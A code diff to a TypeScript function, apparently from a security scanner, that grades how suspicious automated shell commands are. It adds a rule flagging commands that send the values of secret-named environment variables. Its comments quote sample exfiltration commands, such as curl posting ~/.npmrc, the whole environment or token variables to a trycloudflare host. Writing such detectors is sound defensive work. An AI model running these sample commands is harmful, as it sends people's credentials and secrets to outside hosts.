@@ -4,6 +4,7 @@ import { dnsLookupInShell } from '../code/dns-exfiltration.js';
 import { WHOLE_ENVIRONMENT } from '../code/sink-rules.js';
 import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
+import { secretNamedVariablesSent } from '../shell/secret-named-pick.js';
 import { anyOf, inOrderOnALine } from '../util.js';
 
 /** Decoded text piped into a shell, eval of a download, PowerShell's Invoke-Expression (linear-time: one pass a line). */
@@ -25,7 +26,8 @@ const INLINE_LANGUAGES = ['python', 'js', 'ruby'] as const;
  * How much a command that automation runs on someone's machine deserves a look: high when it pipes a
  * download into a shell, decodes and runs hidden text, looks up a name built from data (DNS
  * exfiltration), sends data while reading a credential store (the `~/.ssh` folder too) or the whole
- * environment (in an inline program too), or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
+ * environment (in an inline program too), sends the values of the variables it picks by a secret's
+ * word (secretNamedVariablesSent), or reaches a bare public IP or a paste, tunnel or request-capture service (where stolen data goes: `curl -d "$(git config user.email)"
  * https://x.trycloudflare.com`), medium when it downloads or reaches the network otherwise, `base`
  * otherwise.
  */
@@ -36,6 +38,8 @@ export function commandSeverity(command: string, base: Severity): Severity {
   if (dnsLookupInShell(command) !== null) return 'high';
   // Credentials or the whole environment sent somewhere (`curl -d "$(cat ~/.npmrc)" …`, `env | curl -d @- …`), whatever the host.
   if (sendsData(command, 'shell') && (readsCredentialStore(command) || HOME_SSH_FOLDER.test(command) || WHOLE_ENVIRONMENT.any?.test(command) === true)) return 'high';
+  // The variables named like secrets picked and their values sent (`for v in $(compgen -e | grep -i token); do curl … -d "${!v}"; done`).
+  if (secretNamedVariablesSent(command.split('\n')) !== null) return 'high';
   // The same written as an inline program (`python -c "…urlopen(u, data=json.dumps(dict(os.environ))…"`, `node -e "…"`).
   if (INLINE_LANGUAGES.some((language) => WHOLE_ENVIRONMENT[language]?.test(command) === true && sendsData(command, language))) return 'high';
   if (/\b(?:curl|wget|nc|ncat|Invoke-WebRequest|iwr)\b|https?:\/\//i.test(command)) return base === 'high' ? 'high' : 'medium';
